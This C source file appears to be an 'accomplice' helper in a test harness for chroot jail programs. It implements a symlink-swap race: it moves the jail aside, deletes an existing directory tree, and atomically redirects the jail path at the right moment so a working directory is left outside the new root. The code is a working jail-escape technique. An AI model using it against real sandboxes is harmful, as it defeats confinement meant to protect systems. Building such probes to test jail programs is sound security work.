/*
 * path-race accomplice: someone who controls a symlink on the jail's path.
 * It moves the jail to <jail>.real and makes <jail> a symlink to it. When the
 * agent says the window is open (the jail program looked the path up before
 * and is about to change its root through it again), it points the symlink at
 * <jail>.real/inner, a subdirectory with the probe in it: the chroot() then
 * resolves to the inner directory, and a working directory taken at the
 * first lookup is left above the new root.
 */
#include "probe.h"
#include <ftw.h>
#include <sys/stat.h>

/* A copy, not a hard link: a jail program that drops files with several links (an audit) keeps it. */
static void copy_file(const char *from, const char *to) {
  int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  char buf[65536];
  ssize_t n;
  while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0) write(out, buf, (size_t)n);
  close(in);
  close(out);
}

static int rm_entry(const char *p, const struct stat *st, int type, struct FTW *f) {
  (void)st, (void)f;
  return type == FTW_DP ? rmdir(p) : unlink(p);
}

int main(int argc, char **argv) {
  if (argc < 2) return 1;
  const char *jail = argv[1];
  char real[256], inner[300], innerbin[320], from[320], to[340], tmp[280];
  snprintf(real, sizeof real, "%s.real", jail);
  snprintf(inner, sizeof inner, "%s/inner", real);
  snprintf(innerbin, sizeof innerbin, "%s/bin", inner);
  snprintf(from, sizeof from, "%s/bin/path-race", real);
  snprintf(to, sizeof to, "%s/path-race", innerbin);
  snprintf(tmp, sizeof tmp, "%s.swap", jail);
  nftw(real, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
  if (rename(jail, real) != 0 || symlink(real, jail) != 0) return 1;
  mkdir(inner, 0755);
  mkdir(innerbin, 0755);
  copy_file(from, to);
  accomplice_ready();
  if (accomplice_await_window()) {
    unlink(tmp);
    symlink(inner, tmp);
    rename(tmp, jail); /* atomic: the jail's path now leads to the inner directory */
    accomplice_window_used();
  }
  accomplice_wait();
}
